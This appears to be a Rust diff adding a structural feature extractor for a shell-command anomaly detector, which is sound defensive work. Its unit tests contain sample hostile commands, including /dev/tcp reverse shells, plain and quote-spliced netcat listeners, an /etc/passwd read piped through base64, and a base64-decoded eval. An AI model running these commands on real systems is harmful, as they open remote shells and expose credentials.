@@ -1,0 +1,401 @@
+//! Structural feature extraction over the parsed AST.
+//!
+//! The anomaly ensemble's structural side-channel detector does not look
+//! at token embeddings at all: it scores each command line by a fixed
+//! [`STRUCTURAL_DIM`]-dimensional vector of syntax-shape statistics
+//! derived from the full parse tree — pipeline fan-out, expansion and
+//! substitution counts, nesting depth, quoting overhead, suspicious
+//! redirect targets. Obfuscation techniques that leave the token stream
+//! innocuous (quote splicing, `${v:-n}` expansion tricks, base64 decode
+//! pipelines) tend to *inflate* exactly these statistics, which is what
+//! makes the vector a useful complement to the LM-based detectors.
+
+use crate::ast::{Command, Redirect, RedirectOp, Script};
+use crate::validate::{classify, LineClass};
+use crate::word::WordUnit;
+
+/// Number of entries in a structural feature vector.
+pub const STRUCTURAL_DIM: usize = 18;
+
+/// Human-readable names for each feature index, for reports and debugging.
+pub const FEATURE_NAMES: [&str; STRUCTURAL_DIM] = [
+    "simple_commands",
+    "max_pipeline_len",
+    "and_or_connectors",
+    "background_lists",
+    "redirects",
+    "suspicious_redirect_targets",
+    "heredoc_herestrings",
+    "param_expansions",
+    "param_modifiers",
+    "substitutions",
+    "max_subst_depth",
+    "arith_expansions",
+    "quote_removal_delta",
+    "quoted_words",
+    "spliced_words",
+    "compound_commands",
+    "assignments",
+    "parse_failed",
+];
+
+#[derive(Default)]
+struct Acc {
+    simple: u32,
+    max_pipe: u32,
+    connectors: u32,
+    background: u32,
+    redirects: u32,
+    suspicious_targets: u32,
+    heredocs: u32,
+    params: u32,
+    param_mods: u32,
+    substs: u32,
+    max_depth: u32,
+    ariths: u32,
+    quote_delta: u32,
+    quoted_words: u32,
+    spliced_words: u32,
+    compounds: u32,
+    assignments: u32,
+}
+
+/// Extracts the structural feature vector of a parsed script.
+///
+/// The walk is *deep*: it descends into subshells, brace groups,
+/// compound-command bodies and recursively parsed substitution scripts,
+/// so `eval $(echo x | base64 -d)` contributes the inner pipeline's
+/// statistics as well.
+pub fn script_features(script: &Script) -> [f32; STRUCTURAL_DIM] {
+    let mut acc = Acc::default();
+    walk_script(script, 0, &mut acc);
+    [
+        acc.simple as f32,
+        acc.max_pipe as f32,
+        acc.connectors as f32,
+        acc.background as f32,
+        acc.redirects as f32,
+        acc.suspicious_targets as f32,
+        acc.heredocs as f32,
+        acc.params as f32,
+        acc.param_mods as f32,
+        acc.substs as f32,
+        acc.max_depth as f32,
+        acc.ariths as f32,
+        acc.quote_delta as f32,
+        acc.quoted_words as f32,
+        acc.spliced_words as f32,
+        acc.compounds as f32,
+        acc.assignments as f32,
+        0.0,
+    ]
+}
+
+/// Extracts structural features straight from a raw command line.
+///
+/// Invalid lines (the class the paper's validity filter would drop, but
+/// which still reach the detector at test time) yield a vector that is
+/// zero everywhere except the final `parse_failed` flag; empty lines
+/// yield all zeros.
+pub fn line_features(line: &str) -> [f32; STRUCTURAL_DIM] {
+    match classify(line) {
+        LineClass::Valid(script) => script_features(&script),
+        LineClass::Empty => [0.0; STRUCTURAL_DIM],
+        LineClass::Invalid(_) => parse_failed_vector(),
+    }
+}
+
+fn parse_failed_vector() -> [f32; STRUCTURAL_DIM] {
+    let mut v = [0.0; STRUCTURAL_DIM];
+    v[STRUCTURAL_DIM - 1] = 1.0;
+    v
+}
+
+fn walk_script(script: &Script, depth: u32, acc: &mut Acc) {
+    for list in &script.lists {
+        if list.background {
+            acc.background += 1;
+        }
+        acc.connectors += list.rest.len() as u32;
+        walk_pipeline(&list.first, depth, acc);
+        for (_, p) in &list.rest {
+            walk_pipeline(p, depth, acc);
+        }
+    }
+}
+
+fn walk_pipeline(p: &crate::ast::Pipeline, depth: u32, acc: &mut Acc) {
+    acc.max_pipe = acc.max_pipe.max(p.commands.len() as u32);
+    for cmd in &p.commands {
+        walk_command(cmd, depth, acc);
+    }
+}
+
+fn walk_command(cmd: &Command, depth: u32, acc: &mut Acc) {
+    match cmd {
+        Command::Simple(c) => {
+            acc.simple += 1;
+            acc.assignments += c.assignments.len() as u32;
+            for a in &c.assignments {
+                walk_units(&a.units, depth, acc);
+            }
+            for w in &c.words {
+                let raw_len = w.raw.chars().count() as u32;
+                let text_len = w.text.chars().count() as u32;
+                acc.quote_delta += raw_len.saturating_sub(text_len);
+                if w.raw != w.text {
+                    acc.quoted_words += 1;
+                }
+                if is_spliced(&w.units) {
+                    acc.spliced_words += 1;
+                }
+                walk_units(&w.units, depth, acc);
+            }
+            for r in &c.redirects {
+                walk_redirect(r, depth, acc);
+            }
+        }
+        Command::Subshell(inner) | Command::Group(inner) => {
+            acc.compounds += 1;
+            walk_script(inner, depth, acc);
+        }
+        Command::For(f) => {
+            acc.compounds += 1;
+            if let Some(words) = &f.words {
+                for w in words {
+                    walk_units(&w.units, depth, acc);
+                }
+            }
+            walk_script(&f.body, depth, acc);
+        }
+        Command::While(l) => {
+            acc.compounds += 1;
+            walk_script(&l.condition, depth, acc);
+            walk_script(&l.body, depth, acc);
+        }
+        Command::If(i) => {
+            acc.compounds += 1;
+            for (cond, body) in &i.branches {
+                walk_script(cond, depth, acc);
+                walk_script(body, depth, acc);
+            }
+            if let Some(e) = &i.else_body {
+                walk_script(e, depth, acc);
+            }
+        }
+        Command::Case(c) => {
+            acc.compounds += 1;
+            walk_units(&c.subject.units, depth, acc);
+            for arm in &c.arms {
+                for p in &arm.patterns {
+                    walk_units(&p.units, depth, acc);
+                }
+                walk_script(&arm.body, depth, acc);
+            }
+        }
+        Command::FunctionDef(f) => {
+            acc.compounds += 1;
+            walk_command(&f.body, depth, acc);
+        }
+    }
+}
+
+fn walk_redirect(r: &Redirect, depth: u32, acc: &mut Acc) {
+    acc.redirects += 1;
+    let raw_len = r.target.raw.chars().count() as u32;
+    let text_len = r.target.text.chars().count() as u32;
+    acc.quote_delta += raw_len.saturating_sub(text_len);
+    if matches!(
+        r.op,
+        RedirectOp::Heredoc | RedirectOp::HeredocStrip | RedirectOp::HereString
+    ) {
+        acc.heredocs += 1;
+    }
+    // /dev/tcp and /dev/udp are bash pseudo-devices used by reverse
+    // shells; match on the resolved text so `"/dev/${t:-tcp}/..."` still
+    // counts once the target contains the literal path.
+    if r.target.text.contains("/dev/tcp") || r.target.text.contains("/dev/udp") {
+        acc.suspicious_targets += 1;
+    }
+    walk_units(&r.target.units, depth, acc);
+}
+
+/// A *spliced* word mixes quoted and bare units — the quote-splicing
+/// signature (`b"a"sh`, `n'c'`). A fully quoted argument
+/// (`"deploy done"`) or a bare word is not spliced; the distinction is
+/// what separates quote-splice obfuscation from ordinary benign
+/// quoting, which shares its `quoted_words`/`quote_removal_delta`
+/// footprint.
+fn is_spliced(units: &[WordUnit]) -> bool {
+    let mut quoted = false;
+    let mut bare = false;
+    for unit in units {
+        match unit {
+            WordUnit::SingleQuoted(_) | WordUnit::DoubleQuoted(_) | WordUnit::AnsiCQuoted(_) => {
+                quoted = true
+            }
+            WordUnit::Literal(_) | WordUnit::Tilde(_) => bare = true,
+            _ => {}
+        }
+    }
+    quoted && bare
+}
+
+fn walk_units(units: &[WordUnit], depth: u32, acc: &mut Acc) {
+    for unit in units {
+        match unit {
+            WordUnit::Literal(_)
+            | WordUnit::SingleQuoted(_)
+            | WordUnit::AnsiCQuoted(_)
+            | WordUnit::Tilde(_) => {}
+            WordUnit::DoubleQuoted(inner) => walk_units(inner, depth, acc),
+            WordUnit::Param(p) => {
+                acc.params += 1;
+                // Operator-bearing expansions (`${x:-n}`, `${v%...}`)
+                // are the splice-and-default idiom obfuscation leans
+                // on; bare `$PATH`-style references are everyday
+                // benign traffic, so the two count separately.
+                if p.modifier.is_some() {
+                    acc.param_mods += 1;
+                }
+            }
+            WordUnit::Arith(_) => acc.ariths += 1,
+            WordUnit::CommandSubst(s) | WordUnit::Backquoted(s) => {
+                acc.substs += 1;
+                acc.max_depth = acc.max_depth.max(depth + 1);
+                if let Some(script) = &s.script {
+                    walk_script(script, depth + 1, acc);
+                }
+            }
+            WordUnit::ProcessSubst { subst, .. } => {
+                acc.substs += 1;
+                acc.max_depth = acc.max_depth.max(depth + 1);
+                if let Some(script) = &subst.script {
+                    walk_script(script, depth + 1, acc);
+                }
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn named(v: &[f32; STRUCTURAL_DIM], name: &str) -> f32 {
+        let idx = FEATURE_NAMES.iter().position(|n| *n == name).unwrap();
+        v[idx]
+    }
+
+    #[test]
+    fn plain_command_has_minimal_features() {
+        let v = line_features("ls -la /tmp");
+        assert_eq!(named(&v, "simple_commands"), 1.0);
+        assert_eq!(named(&v, "max_pipeline_len"), 1.0);
+        assert_eq!(named(&v, "quoted_words"), 0.0);
+        assert_eq!(named(&v, "parse_failed"), 0.0);
+    }
+
+    #[test]
+    fn pipeline_and_connectors_are_counted() {
+        let v = line_features("cat /etc/passwd | gzip | base64 && echo ok &");
+        assert_eq!(named(&v, "max_pipeline_len"), 3.0);
+        assert_eq!(named(&v, "and_or_connectors"), 1.0);
+        assert_eq!(named(&v, "background_lists"), 1.0);
+        assert_eq!(named(&v, "simple_commands"), 4.0);
+    }
+
+    #[test]
+    fn reverse_shell_redirect_is_suspicious() {
+        let v = line_features("bash -i >&/dev/tcp/10.0.0.1/4444 0>&1");
+        assert_eq!(named(&v, "suspicious_redirect_targets"), 1.0);
+        assert_eq!(named(&v, "redirects"), 2.0);
+    }
+
+    #[test]
+    fn expansion_obfuscated_redirect_is_suspicious_after_resolution() {
+        // Quote splicing leaves the resolved text readable: the target's
+        // `text` still contains the literal /dev/tcp path.
+        let v = line_features(r#"bash -i >&"/dev/tcp/1.2.3.4/9001" 0>&1"#);
+        assert_eq!(named(&v, "suspicious_redirect_targets"), 1.0);
+        assert!(named(&v, "quote_removal_delta") >= 2.0);
+    }
+
+    #[test]
+    fn substitutions_walk_deep_and_track_depth() {
+        let v = line_features("eval $(echo d2hvYW1p | base64 -d)");
+        assert_eq!(named(&v, "substitutions"), 1.0);
+        assert_eq!(named(&v, "max_subst_depth"), 1.0);
+        // eval + the two commands inside the substitution pipeline
+        assert_eq!(named(&v, "simple_commands"), 3.0);
+
+        let nested = line_features("echo $(echo $(id))");
+        assert_eq!(named(&nested, "max_subst_depth"), 2.0);
+    }
+
+    #[test]
+    fn quote_splicing_inflates_quote_delta() {
+        let plain = line_features("nc -lvnp 4444");
+        let spliced = line_features("n'c' -l'v'np 4444");
+        assert!(named(&spliced, "quote_removal_delta") > named(&plain, "quote_removal_delta"));
+        assert_eq!(named(&spliced, "quoted_words"), 2.0);
+        assert_eq!(named(&spliced, "spliced_words"), 2.0);
+    }
+
+    #[test]
+    fn fully_quoted_words_are_not_spliced() {
+        // Ordinary benign quoting: whole-argument quotes leave
+        // spliced_words at zero even though quoted_words and the
+        // removal delta both fire.
+        let v = line_features(r#"echo "deploy 91 done""#);
+        assert_eq!(named(&v, "quoted_words"), 1.0);
+        assert!(named(&v, "quote_removal_delta") >= 2.0);
+        assert_eq!(named(&v, "spliced_words"), 0.0);
+        // Mid-word quote transitions are the splice signature.
+        let s = line_features(r#"b"a"sh -i"#);
+        assert_eq!(named(&s, "spliced_words"), 1.0);
+    }
+
+    #[test]
+    fn param_and_arith_expansions_are_counted() {
+        let v = line_features("echo ${x:-nc} $((1+2)) $HOME");
+        assert_eq!(named(&v, "param_expansions"), 2.0);
+        assert_eq!(named(&v, "arith_expansions"), 1.0);
+        // Only `${x:-nc}` carries an operator; `$HOME` is a bare
+        // reference.
+        assert_eq!(named(&v, "param_modifiers"), 1.0);
+    }
+
+    #[test]
+    fn bare_variable_references_carry_no_modifier() {
+        let v = line_features("echo $PATH");
+        assert_eq!(named(&v, "param_expansions"), 1.0);
+        assert_eq!(named(&v, "param_modifiers"), 0.0);
+    }
+
+    #[test]
+    fn compound_commands_and_heredocs_are_counted() {
+        let v = line_features("for f in a b; do cat $f; done");
+        assert_eq!(named(&v, "compound_commands"), 1.0);
+        let h = line_features("python3 <<'EOF'\nprint(1)\nEOF");
+        assert_eq!(named(&h, "heredoc_herestrings"), 1.0);
+    }
+
+    #[test]
+    fn empty_and_invalid_lines_are_flagged() {
+        assert_eq!(line_features("   "), [0.0; STRUCTURAL_DIM]);
+        assert_eq!(line_features("# comment"), [0.0; STRUCTURAL_DIM]);
+        let bad = line_features("/*/*/* -> /*/*/* ->");
+        assert_eq!(named(&bad, "parse_failed"), 1.0);
+        assert_eq!(named(&bad, "simple_commands"), 0.0);
+    }
+
+    #[test]
+    fn feature_names_cover_every_dimension() {
+        assert_eq!(FEATURE_NAMES.len(), STRUCTURAL_DIM);
+        let mut sorted: Vec<&str> = FEATURE_NAMES.to_vec();
+        sorted.sort_unstable();
+        sorted.dedup();
+        assert_eq!(sorted.len(), STRUCTURAL_DIM, "duplicate feature name");
+    }
+}
